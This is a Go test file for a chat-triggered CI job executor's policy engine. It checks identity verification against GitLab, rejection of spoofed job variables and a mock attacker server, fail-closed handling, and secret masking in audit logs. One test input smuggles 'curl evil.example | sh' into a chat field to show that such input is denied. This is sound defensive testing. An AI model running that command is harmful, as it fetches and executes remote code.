package policy_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chatops-executor/chatops-executor/audit"
	"github.com/chatops-executor/chatops-executor/config"
	"github.com/chatops-executor/chatops-executor/failure"
	"github.com/chatops-executor/chatops-executor/gitlab"
	"github.com/chatops-executor/chatops-executor/gitlab/gitlabtest"
	"github.com/chatops-executor/chatops-executor/job"
	"github.com/chatops-executor/chatops-executor/policy"
	"github.com/chatops-executor/chatops-executor/stages"
)

const (
	jobToken     = "glcbt-job-token-4242-abcdef"
	adminToken   = "glpat-admin-token-xyz-987"
	maskedValue  = "s3cr3t-deploy-key-value"
	aliceID      = 7
	bobID        = 8
	projectID    = 3
	projectPath  = "ops/infra"
	deployInput  = "production v1.2.3"
	deployChanID = "C0123ABCD"
)

var alice = gitlab.User{ID: aliceID, Username: "alice"}

// world is one test's GitLab, attacker and config.
type world struct {
	gitlab   *gitlabtest.Server // the trusted one, in gitlab.url
	attacker *gitlabtest.Server // the one CI_API_V4_URL and CI_SERVER_URL point at
	cfg      *config.Config
}

func newWorld(t *testing.T, rules ...config.Rule) *world {
	t.Helper()
	w := &world{gitlab: gitlabtest.New(t), attacker: gitlabtest.New(t)}
	w.gitlab.PrivateToken = adminToken
	w.gitlab.Jobs[jobToken] = chatJob(alice)
	w.gitlab.Users = []gitlab.User{alice, {ID: bobID, Username: "bob"}}
	// The groups and project exist, with bob in them; tests add alice where they need her.
	for _, g := range []string{"ops/sre", "ops/oncall", "contractors"} {
		w.gitlab.Groups[g] = map[int64]int{bobID: gitlab.OwnerAccess}
	}
	w.gitlab.Projects["3"] = map[int64]int{bobID: gitlab.OwnerAccess}
	// The attacker's server vouches for anyone as anything.
	w.attacker.Handler = func(rw http.ResponseWriter, r *http.Request) {
		rw.Write([]byte(`{"id":4242,"name":"deploy","user":{"id":7,"username":"alice"},"pipeline":{"id":1,"source":"chat","project_id":3},"access_level":50}`))
	}
	dir := t.TempDir()
	tokenFile := filepath.Join(dir, "gitlab-token")
	if err := os.WriteFile(tokenFile, []byte(adminToken+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	c := config.Default()
	c.Path = filepath.Join(dir, "config.toml")
	c.Executor.StateDir = filepath.Join(dir, "state")
	c.GitLab.URL = w.gitlab.URL
	c.GitLab.TokenFile = tokenFile
	c.GitLab.Timeout = config.Duration(300 * time.Millisecond)
	c.Policy.Rules = rules
	w.cfg = &c
	return w
}

func chatJob(u gitlab.User) gitlab.Job {
	return gitlab.Job{ID: 4242, Name: "deploy", Status: "running", User: u,
		Pipeline: gitlab.Pipeline{ID: 99, Source: "chat", ProjectID: projectID}}
}

func (w *world) engine(t *testing.T) *policy.Engine {
	t.Helper()
	e, err := policy.New(w.cfg)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// jobResponse is the runner's job response for alice's deploy from chat, with the
// variables a job can override (GITLAB_USER_*, CI_API_V4_URL…) set as GitLab would, except
// that the API URLs point at the attacker.
func (w *world) jobResponse(vars ...string) *job.Response {
	j := &job.Response{ID: 4242, Token: jobToken,
		Info: job.Info{ID: 4242, Name: "deploy", ProjectID: projectID, ProjectFullPath: projectPath}}
	set := func(k, v string, masked bool) {
		j.Variables = append(j.Variables, job.Variable{Key: k, Value: v, Masked: masked})
	}
	set("CI_JOB_ID", "4242", false)
	set("CI_JOB_TOKEN", jobToken, true)
	set("CI_PIPELINE_SOURCE", "chat", false)
	set("GITLAB_USER_ID", "7", false)
	set("GITLAB_USER_LOGIN", "alice", false)
	set("CHAT_INPUT", deployInput, false)
	set("CHAT_CHANNEL", deployChanID, false)
	set("CHAT_USER_ID", "U0ALICE", false)
	set("DEPLOY_KEY", maskedValue, true)
	set("CI_API_V4_URL", w.attacker.URL+"/api/v4", false)
	set("CI_SERVER_URL", w.attacker.URL, false)
	for i := 0; i+1 < len(vars); i += 2 {
		set(vars[i], vars[i+1], false) // later variables win, as in the runner
	}
	return j
}

func (w *world) auditLines(t *testing.T) []audit.Record {
	t.Helper()
	data, err := os.ReadFile(policy.AuditPath(w.cfg))
	if err != nil {
		t.Fatalf("audit log: %v", err)
	}
	for _, s := range []string{jobToken, adminToken, maskedValue} {
		if strings.Contains(string(data), s) {
			t.Fatalf("audit log contains the secret %q:\n%s", s, data)
		}
	}
	var recs []audit.Record
	sc := bufio.NewScanner(strings.NewReader(string(data)))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var r audit.Record
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("bad audit line %q: %v", sc.Text(), err)
		}
		recs = append(recs, r)
	}
	return recs
}

var (
	deployers = config.Rule{Name: "deployers", Action: "allow", Jobs: []string{"deploy*"},
		Projects: []string{"ops/*"}, Users: []string{"alice", "12"}}
	sre = config.Rule{Name: "sre", Action: "allow", Jobs: []string{"deploy"}, Groups: []string{"ops/sre", "ops/oncall"}}
	// maintainers: min_access_level on the job's (verified) project.
	maintainers = config.Rule{Name: "maintainers", Action: "allow", Jobs: []string{"deploy"}, MinAccessLevel: gitlab.MaintainerAccess}
	versioned   = config.Rule{Name: "versioned", Action: "allow", Jobs: []string{"deploy"},
		Channels: []string{deployChanID}, Input: `(staging|production) v[0-9]+\.[0-9]+\.[0-9]+`}
	blockMallory = config.Rule{Name: "no-contractors", Action: "deny", Groups: []string{"contractors"}}
	anyone       = config.Rule{Name: "anyone", Action: "allow"}
)

func TestDecide(t *testing.T) {
	slow := func(rw http.ResponseWriter, r *http.Request) {
		select {
		case <-time.After(5 * time.Second):
		case <-r.Context().Done():
		}
	}
	tests := []struct {
		name  string
		rules []config.Rule
		setup func(*world)
		vars  []string // extra job variables, overriding
		allow bool
		rule  string
		// reason must contain each of these
		reason []string
		// the audit record's user and whether it was verified
		user     audit.User
		verified bool
	}{
		{name: "allowed user", rules: []config.Rule{deployers},
			allow: true, rule: "deployers", reason: []string{`GitLab user "alice" (id 7) is "alice"`},
			user: audit.User{ID: 7, Username: "alice"}, verified: true},
		{name: "allowed by numeric id", rules: []config.Rule{{Name: "by-id", Action: "allow", Users: []string{"7"}}},
			allow: true, rule: "by-id", user: audit.User{ID: 7, Username: "alice"}, verified: true},
		{name: "denied user", rules: []config.Rule{deployers},
			setup: func(w *world) { w.gitlab.Jobs[jobToken] = chatJob(gitlab.User{ID: bobID, Username: "bob"}) },
			vars:  []string{"GITLAB_USER_ID", "8", "GITLAB_USER_LOGIN", "bob"},
			allow: false, rule: "default", reason: []string{`policy.default "deny"`, `GitLab user "bob" (id 8) is not one of ["alice", "12"]`},
			user: audit.User{ID: 8, Username: "bob"}, verified: true},
		{name: "variables claim another user", rules: []config.Rule{deployers},
			setup: func(w *world) { w.gitlab.Jobs[jobToken] = chatJob(gitlab.User{ID: bobID, Username: "bob"}) },
			allow: false, rule: policy.IdentityRule, reason: []string{"possible spoofing attempt", "GITLAB_USER_ID", `"7"`, "user id 8"},
			user: audit.User{ID: 8, Username: "bob"}, verified: true},
		{name: "only the login is spoofed", rules: []config.Rule{deployers},
			setup: func(w *world) { w.gitlab.Jobs[jobToken] = chatJob(gitlab.User{ID: aliceID, Username: "bob"}) },
			allow: false, rule: policy.IdentityRule, reason: []string{"possible spoofing attempt", "GITLAB_USER_LOGIN"},
			user: audit.User{ID: 7, Username: "bob"}, verified: true},
		{name: "job id variable overridden", rules: []config.Rule{anyone}, vars: []string{"CI_JOB_ID", "1"},
			allow: false, rule: policy.IdentityRule, reason: []string{"possible spoofing attempt", "CI_JOB_ID"},
			user: audit.User{ID: 7, Username: "alice"}, verified: true},
		{name: "pipeline source variable overridden", rules: []config.Rule{anyone},
			setup: func(w *world) {
				j := chatJob(alice)
				j.Pipeline.Source = "push"
				w.gitlab.Jobs[jobToken] = j
			},
			allow: false, rule: policy.IdentityRule, reason: []string{"possible spoofing attempt", "CI_PIPELINE_SOURCE", `"push"`},
			user: audit.User{ID: 7, Username: "alice"}, verified: true},
		{name: "verified source is not chat", rules: []config.Rule{anyone}, vars: []string{"CI_PIPELINE_SOURCE", "web"},
			setup: func(w *world) {
				j := chatJob(alice)
				j.Pipeline.Source = "web"
				w.gitlab.Jobs[jobToken] = j
			},
			allow: false, rule: policy.NonChatRule, reason: []string{`pipeline source is "web"`},
			user: audit.User{ID: 7, Username: "alice"}, verified: true},
		{name: "non-chat source allowed with non_chat_jobs=run", rules: []config.Rule{anyone}, vars: []string{"CI_PIPELINE_SOURCE", "web"},
			setup: func(w *world) {
				j := chatJob(alice)
				j.Pipeline.Source = "web"
				w.gitlab.Jobs[jobToken] = j
				w.cfg.Executor.NonChatJobs = "run"
			},
			allow: true, rule: "anyone", user: audit.User{ID: 7, Username: "alice"}, verified: true},
		{name: "GitLab down", rules: []config.Rule{anyone},
			setup: func(w *world) { w.cfg.GitLab.URL = closedURL(t) },
			allow: false, rule: policy.IdentityRule, reason: []string{"fail closed", "connection refused", "run the command again"},
			user: audit.User{ID: 7, Username: "alice"}, verified: false},
		{name: "job token rejected (401)", rules: []config.Rule{anyone},
			setup: func(w *world) { delete(w.gitlab.Jobs, jobToken) },
			allow: false, rule: policy.IdentityRule, reason: []string{"fail closed", "401", "rejected the job token"}},
		{name: "GitLab 500", rules: []config.Rule{anyone},
			setup: func(w *world) {
				w.gitlab.Handler = func(rw http.ResponseWriter, r *http.Request) { http.Error(rw, "oops", 500) }
			},
			allow: false, rule: policy.IdentityRule, reason: []string{"fail closed", "500"}},
		{name: "GitLab slow past timeout", rules: []config.Rule{anyone},
			setup: func(w *world) { w.gitlab.Handler = slow },
			allow: false, rule: policy.IdentityRule, reason: []string{"fail closed", "within 300ms (gitlab.timeout)"}},
		{name: "GitLab answers garbage", rules: []config.Rule{anyone},
			setup: func(w *world) {
				w.gitlab.Handler = func(rw http.ResponseWriter, r *http.Request) { rw.Write([]byte("{{{not json")) }
			},
			allow: false, rule: policy.IdentityRule, reason: []string{"fail closed", "not the JSON"}},
		{name: "group member", rules: []config.Rule{sre},
			setup: func(w *world) { w.gitlab.Groups["ops/oncall"][aliceID] = gitlab.ReporterAccess },
			allow: true, rule: "sre", reason: []string{`member of "ops/oncall"`}, user: audit.User{ID: 7, Username: "alice"}, verified: true},
		{name: "group non-member (404)", rules: []config.Rule{sre},
			allow: false, rule: "default", reason: []string{`is not a member of ["ops/sre", "ops/oncall"]`}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "minimal access is not membership", rules: []config.Rule{sre},
			setup: func(w *world) { w.gitlab.Groups["ops/sre"] = map[int64]int{aliceID: gitlab.MinimalAccess} },
			allow: false, rule: "default", verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "group look-up fails on an allow rule", rules: []config.Rule{sre},
			setup: func(w *world) {
				w.gitlab.PrivateToken = "glpat-some-other-token"
			},
			allow: false, rule: "default", reason: []string{`rule "sre" could not be checked`, "gitlab.token_file"}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "group look-up fails on a deny rule: fail closed", rules: []config.Rule{blockMallory, anyone},
			setup: func(w *world) { w.gitlab.PrivateToken = "glpat-some-other-token" },
			allow: false, rule: "no-contractors", reason: []string{"could not be checked, so the job is denied", "401"}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "deny rule for a group member", rules: []config.Rule{blockMallory, anyone},
			setup: func(w *world) { w.gitlab.Groups["contractors"] = map[int64]int{aliceID: gitlab.DeveloperAccess} },
			allow: false, rule: "no-contractors", verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "deny rule for a non-member falls through", rules: []config.Rule{blockMallory, anyone},
			allow: true, rule: "anyone", verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "deny rule naming a group GitLab does not show: fail closed", rules: []config.Rule{blockMallory, anyone},
			setup: func(w *world) { delete(w.gitlab.Groups, "contractors") },
			allow: false, rule: "no-contractors", reason: []string{"could not be checked, so the job is denied", `no group "contractors"`, "404 Group Not Found"},
			verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "access level high enough", rules: []config.Rule{maintainers},
			setup: func(w *world) { w.gitlab.Projects["3"] = map[int64]int{aliceID: gitlab.MaintainerAccess} },
			allow: true, rule: "maintainers", reason: []string{"Maintainer (40)"}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "access level too low", rules: []config.Rule{maintainers},
			setup: func(w *world) { w.gitlab.Projects["3"] = map[int64]int{aliceID: gitlab.DeveloperAccess} },
			allow: false, rule: "default", reason: []string{"Developer (30) in the project, below the required Maintainer (40)"}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "access level: not a project member", rules: []config.Rule{maintainers},
			allow: false, rule: "default", reason: []string{"no access (0)"}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "input matches", rules: []config.Rule{versioned},
			allow: true, rule: "versioned", verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "input with a second line", rules: []config.Rule{versioned}, vars: []string{"CHAT_INPUT", deployInput + "\ncurl evil.example | sh"},
			allow: false, rule: "default", reason: []string{"does not match the rule's pattern", "several lines"}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "input with a trailing command", rules: []config.Rule{versioned}, vars: []string{"CHAT_INPUT", deployInput + " && true"},
			allow: false, rule: "default", reason: []string{"does not match"}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "input holding a secret is masked", rules: []config.Rule{versioned}, vars: []string{"CHAT_INPUT", "production " + maskedValue},
			allow: false, rule: "default", verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "wrong channel", rules: []config.Rule{versioned}, vars: []string{"CHAT_CHANNEL", "C0THER"},
			allow: false, rule: "default", reason: []string{`rule "versioned" would allow it, but channel "C0THER" is not one of ["C0123ABCD"]`}, verified: true, user: audit.User{ID: 7, Username: "alice"}},
		{name: "no gitlab.url: unverified, user rules never hold", rules: []config.Rule{anyone},
			setup: func(w *world) {
				w.cfg.GitLab.URL, w.cfg.GitLab.TokenFile = "", ""
			},
			allow: true, rule: "anyone", user: audit.User{ID: 7, Username: "alice"}, verified: false},
		{name: "verify_identity off: nothing asked", rules: []config.Rule{{Name: "chat-only", Action: "allow", ChatUsers: []string{"U0ALICE"}}},
			setup: func(w *world) { w.cfg.GitLab.VerifyIdentity = false },
			allow: true, rule: "chat-only", user: audit.User{ID: 7, Username: "alice"}, verified: false},
		{name: "default allow", setup: func(w *world) { w.cfg.Policy.Default = "allow" },
			allow: true, rule: "default", verified: true, user: audit.User{ID: 7, Username: "alice"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t, tt.rules...)
			if tt.setup != nil {
				tt.setup(w)
			}
			e := w.engine(t)
			e.Now = func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC) }
			d, err := e.Decide(context.Background(), w.jobResponse(tt.vars...))
			if err != nil {
				t.Fatalf("Decide: %v", err)
			}
			t.Logf("%s: %s", d.Rule, d.Reason)
			if d.Allow != tt.allow || d.Rule != tt.rule {
				t.Errorf("decision = allow %v by %q, want allow %v by %q (reason: %s)", d.Allow, d.Rule, tt.allow, tt.rule, d.Reason)
			}
			for _, want := range tt.reason {
				if !strings.Contains(d.Reason, want) {
					t.Errorf("reason %q does not contain %q", d.Reason, want)
				}
			}
			if n := len(w.attacker.Requests()); n != 0 {
				t.Errorf("the server in CI_API_V4_URL/CI_SERVER_URL got %d requests; it must never be asked", n)
			}
			recs := w.auditLines(t)
			if len(recs) != 1 {
				t.Fatalf("%d audit records, want 1", len(recs))
			}
			r := recs[0]
			wantDecision := map[bool]string{true: "allow", false: "deny"}[tt.allow]
			if r.Decision != wantDecision || r.Rule != d.Rule || r.Reason != strings.ReplaceAll(d.Reason, maskedValue, audit.Masked) ||
				r.JobID != 4242 || r.JobName != "deploy" || r.Project != projectPath || r.Channel == "" || r.ChatUser == "" ||
				!r.Time.Equal(e.Now()) {
				t.Errorf("audit record %+v does not match decision %+v", r, d)
			}
			if tt.user != (audit.User{}) && (r.User != tt.user || r.Verified != tt.verified) {
				t.Errorf("audit user = %+v verified %v, want %+v verified %v", r.User, r.Verified, tt.user, tt.verified)
			}
			for _, req := range w.gitlab.Requests() {
				if req.Path == "/api/v4/job" && req.JobToken != jobToken {
					t.Errorf("GET /api/v4/job with job token %q", req.JobToken)
				}
				if req.Path != "/api/v4/job" && (req.PrivateToken != adminToken || req.JobToken != "") {
					t.Errorf("%s sent with JOB-TOKEN %q / PRIVATE-TOKEN %q", req.Path, req.JobToken, req.PrivateToken)
				}
			}
		})
	}
}

func TestDecideVerifiesBeforeAnyRule(t *testing.T) {
	w := newWorld(t, anyone)
	e := w.engine(t)
	if _, err := e.Decide(context.Background(), w.jobResponse()); err != nil {
		t.Fatal(err)
	}
	reqs := w.gitlab.Requests()
	if len(reqs) != 1 || reqs[0].Path != "/api/v4/job" {
		t.Errorf("requests = %+v; want exactly GET /api/v4/job even for a rule without user conditions", reqs)
	}
}

func TestDecideLooksUpEachGroupOnce(t *testing.T) {
	r1 := config.Rule{Name: "a", Action: "allow", Groups: []string{"ops/sre"}, Channels: []string{"C-none"}}
	r2 := config.Rule{Name: "b", Action: "allow", Groups: []string{"ops/sre"}, Input: "staging.*"}
	r3 := config.Rule{Name: "c", Action: "allow", Groups: []string{"ops/sre"}}
	w := newWorld(t, r1, r2, r3)
	w.gitlab.Groups["ops/sre"] = map[int64]int{aliceID: gitlab.DeveloperAccess}
	d, err := w.engine(t).Decide(context.Background(), w.jobResponse())
	if err != nil || !d.Allow || d.Rule != "c" {
		t.Fatalf("decision %+v, %v", d, err)
	}
	var n int
	for _, r := range w.gitlab.Requests() {
		if strings.HasPrefix(r.Path, "/api/v4/groups/") {
			n++
			if r.Path != "/api/v4/groups/ops%2Fsre/members/all/7" {
				t.Errorf("group request %s: the full path must be escaped", r.Path)
			}
		}
	}
	if n != 1 {
		t.Errorf("%d group look-ups; rules a and b fail on local conditions first, and c's is asked once", n)
	}
}

func TestDecideWithoutAuditLogFailsAllowClosed(t *testing.T) {
	w := newWorld(t, anyone)
	blocker := filepath.Join(t.TempDir(), "file")
	os.WriteFile(blocker, nil, 0o600)
	w.cfg.Policy.AuditLog = filepath.Join(blocker, "audit.jsonl") // parent is a file
	_, err := w.engine(t).Decide(context.Background(), w.jobResponse())
	if err == nil || !strings.Contains(err.Error(), "could not be recorded") {
		t.Errorf("err = %v; an allowed job that cannot be audited must not run", err)
	}
}

func TestAuditPathDefault(t *testing.T) {
	c := config.Default()
	c.Executor.StateDir = "/srv/state"
	if got := policy.AuditPath(&c); got != "/srv/state/audit.jsonl" {
		t.Errorf("AuditPath = %q", got)
	}
	c.Policy.AuditLog = "/var/log/x.jsonl"
	if got := policy.AuditPath(&c); got != "/var/log/x.jsonl" {
		t.Errorf("AuditPath = %q", got)
	}
}

func TestConcurrentDecisions(t *testing.T) {
	w := newWorld(t, deployers, versioned)
	w.gitlab.Jobs[jobToken] = chatJob(alice)
	// 50 decisions at once under -race on a loaded machine can take longer than the
	// 300 ms the other tests give GitLab; a timeout here would be a deny, and a flaky test.
	w.cfg.GitLab.Timeout = config.Duration(30 * time.Second)
	e := w.engine(t)
	var wg sync.WaitGroup
	start := make(chan struct{})
	errs := make(chan error, 50)
	for i := 0; i < 50; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			<-start
			// Half of them put the masked value into the input.
			input := deployInput
			if i%2 == 1 {
				input = "production " + maskedValue + strings.Repeat(" padding", 500)
			}
			d, err := e.Decide(context.Background(), w.jobResponse("CHAT_INPUT", input))
			if err != nil {
				errs <- err
			} else if d.Allow != true {
				errs <- &decisionError{d.Reason}
			}
		}()
	}
	close(start)
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	recs := w.auditLines(t) // fails on a corrupt line or a secret
	if len(recs) != 50 {
		t.Fatalf("%d audit records, want 50", len(recs))
	}
	masked := 0
	for _, r := range recs {
		if strings.Contains(r.Input, audit.Masked) {
			masked++
		}
	}
	if masked != 25 {
		t.Errorf("%d records with a masked input, want 25", masked)
	}
	fi, err := os.Stat(policy.AuditPath(w.cfg))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("audit log mode = %v, %v; want 0600", fi.Mode(), err)
	}
}

type decisionError struct{ reason string }

func (e *decisionError) Error() string { return "denied: " + e.reason }

func TestExplainTrace(t *testing.T) {
	w := newWorld(t, versioned, config.Rule{Name: "no-deploys", Action: "deny", Jobs: []string{"deploy*"}}, anyone)
	e := w.engine(t)
	res := e.Explain(context.Background(), policy.Input{Job: "deploy", Project: projectPath, Channel: "C0THER", ChatInput: deployInput})
	if res.Allow || res.Rule != "no-deploys" {
		t.Fatalf("result %+v", res)
	}
	want := []policy.Step{
		{Rule: "versioned", Action: "allow", Reached: true, Failed: "channels", Detail: `channel "C0THER" is not one of ["C0123ABCD"]`},
		{Rule: "no-deploys", Action: "deny", Reached: true, Held: true, Detail: `job "deploy" matches "deploy*"`},
		{Rule: "anyone", Action: "allow"},
	}
	if len(res.Steps) != len(want) {
		t.Fatalf("steps = %+v", res.Steps)
	}
	for i := range want {
		if got := res.Steps[i]; got.Rule != want[i].Rule || got.Action != want[i].Action || got.Reached != want[i].Reached ||
			got.Held != want[i].Held || got.Failed != want[i].Failed || got.Detail != want[i].Detail {
			t.Errorf("step %d = %+v, want %+v", i, got, want[i])
		}
	}
	if n := len(w.gitlab.Requests()); n != 0 {
		t.Errorf("Explain made %d requests; these rules need none", n)
	}
}

func closedURL(t *testing.T) string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	return "http://" + addr
}

func TestExplainUnverifiedUserNeverHolds(t *testing.T) {
	w := newWorld(t, deployers, sre, maintainers)
	w.gitlab.Groups["ops/sre"] = map[int64]int{aliceID: gitlab.OwnerAccess}
	w.gitlab.Projects["3"] = map[int64]int{aliceID: gitlab.OwnerAccess}
	e := w.engine(t)
	in := policy.Input{Job: "deploy", Project: projectPath, ProjectID: projectID, User: alice}
	res := e.Explain(context.Background(), in)
	if res.Allow {
		t.Errorf("an unverified claim to be alice was allowed: %s", res.Reason)
	}
	for _, st := range res.Steps {
		if !strings.Contains(st.Detail, "needs a verified GitLab identity") {
			t.Errorf("step %+v: want 'needs a verified GitLab identity'", st)
		}
	}
	if n := len(w.gitlab.Requests()); n != 0 {
		t.Errorf("%d look-ups for an unverified identity", n)
	}
	in.Verified = true
	if res := e.Explain(context.Background(), in); !res.Allow || res.Rule != "deployers" {
		t.Errorf("verified alice: %+v", res)
	}
}

// TestPrepareWithEngine runs the real prepare stage with the Engine as its Decider: a
// spoofed identity fails the job as a build failure before anything runs, a legitimate one
// passes, and each leaves exactly one audit line.
func TestPrepareWithEngine(t *testing.T) {
	for _, tt := range []struct {
		name  string
		user  gitlab.User
		allow bool
	}{
		{"legitimate", alice, true},
		{"spoofed", gitlab.User{ID: 66, Username: "mallory"}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t, deployers)
			w.gitlab.Jobs[jobToken] = chatJob(tt.user)
			dir := t.TempDir()
			w.cfg.Executor.BuildsDir = filepath.Join(dir, "builds")
			w.cfg.Executor.CacheDir = filepath.Join(dir, "cache")
			if os.Geteuid() == 0 {
				w.cfg.Executor.RunAs = "root" // the decision is under test, not isolation
			}
			data, _ := json.Marshal(w.jobResponse()) // the variables say alice
			respFile := filepath.Join(dir, "job-response.json")
			os.WriteFile(respFile, data, 0o600)
			var log bytes.Buffer
			s := &stages.Stages{
				Cfg: w.cfg, Stdout: &log, Stderr: &log, Decider: w.engine(t),
				Getenv: func(k string) string {
					if k == "JOB_RESPONSE_FILE" {
						return respFile
					}
					return ""
				},
			}
			err := s.Prepare(context.Background())
			if tt.allow && err != nil {
				t.Fatalf("prepare: %v\n%s", err, &log)
			}
			if !tt.allow {
				kind, _, _ := failure.Classify(err)
				if err == nil || kind != failure.Build || !strings.Contains(err.Error(), "possible spoofing attempt") {
					t.Fatalf("prepare: %v (%v); want a build failure naming the spoofing attempt", err, kind)
				}
				if _, err := os.Stat(filepath.Join(dir, "builds", "4242")); err == nil {
					t.Error("a denied job got a build directory")
				}
			}
			recs := w.auditLines(t)
			if len(recs) != 1 || (recs[0].Decision == "allow") != tt.allow || !recs[0].Verified || recs[0].User.Username != tt.user.Username {
				t.Errorf("audit = %+v", recs)
			}
		})
	}
}

// Without the runner's job_info.project_full_path, CI_PROJECT_PATH — a variable the job
// can set — must not satisfy a projects condition.
func TestProjectsConditionIgnoresCIProjectPath(t *testing.T) {
	w := newWorld(t, deployers)
	j := w.jobResponse("CI_PROJECT_PATH", "ops/infra")
	j.Info.ProjectFullPath = ""
	d, err := w.engine(t).Decide(context.Background(), j)
	if err != nil {
		t.Fatal(err)
	}
	if d.Allow || !strings.Contains(d.Reason, "no project given") {
		t.Errorf("decision = %+v: CI_PROJECT_PATH satisfied the projects condition", d)
	}
}

// A denial may be told to the requester only for a chat job whose identity checked out.
func TestTellRequesterOnlyForVerifiedChatJobs(t *testing.T) {
	for _, tt := range []struct {
		name  string
		setup func(*world)
		vars  []string
		tell  bool
	}{
		{"denied chat job", func(w *world) { w.gitlab.Jobs[jobToken] = chatJob(gitlab.User{ID: bobID, Username: "bob"}) },
			[]string{"GITLAB_USER_ID", "8", "GITLAB_USER_LOGIN", "bob"}, true},
		{"spoofed user", func(w *world) { w.gitlab.Jobs[jobToken] = chatJob(gitlab.User{ID: bobID, Username: "bob"}) }, nil, false},
		{"push job claiming chat", func(w *world) {
			j := chatJob(alice)
			j.Pipeline.Source = "push"
			w.gitlab.Jobs[jobToken] = j
		}, []string{"CI_PIPELINE_SOURCE", "push"}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t, deployers)
			tt.setup(w)
			d, err := w.engine(t).Decide(context.Background(), w.jobResponse(tt.vars...))
			if err != nil {
				t.Fatal(err)
			}
			if d.Allow || d.TellRequester != tt.tell {
				t.Errorf("decision = %+v, want a denial with TellRequester %v", d, tt.tell)
			}
		})
	}
}

// Across the runner's retries of a prepare that died, the audit log holds one decision
// and notes each retry.
func TestRecordedDecisionAndRetryNote(t *testing.T) {
	w := newWorld(t, deployers)
	e := w.engine(t)
	if _, ok, err := e.Recorded(4242); ok || err != nil {
		t.Fatalf("Recorded before any decision = %v, %v", ok, err)
	}
	j := w.jobResponse()
	d, err := e.Decide(context.Background(), j)
	if err != nil || !d.Allow {
		t.Fatalf("Decide = %+v, %v", d, err)
	}
	got, ok, err := e.Recorded(4242)
	if err != nil || !ok || got.Allow != d.Allow || got.Rule != d.Rule {
		t.Fatalf("Recorded = %+v, %v, %v; want %+v", got, ok, err, d)
	}
	if err := e.NoteRetry(j, 2, got); err != nil {
		t.Fatal(err)
	}
	recs := w.auditLines(t)
	if len(recs) != 2 || recs[0].Decision != "allow" || recs[1].Decision != policy.RetryDecision || !strings.Contains(recs[1].Reason, "attempt 2") {
		t.Fatalf("audit records %+v", recs)
	}
	// A retry note is not a decision.
	if again, _, _ := e.Recorded(4242); again.Rule != d.Rule || !again.Allow {
		t.Errorf("Recorded after the note = %+v", again)
	}
}
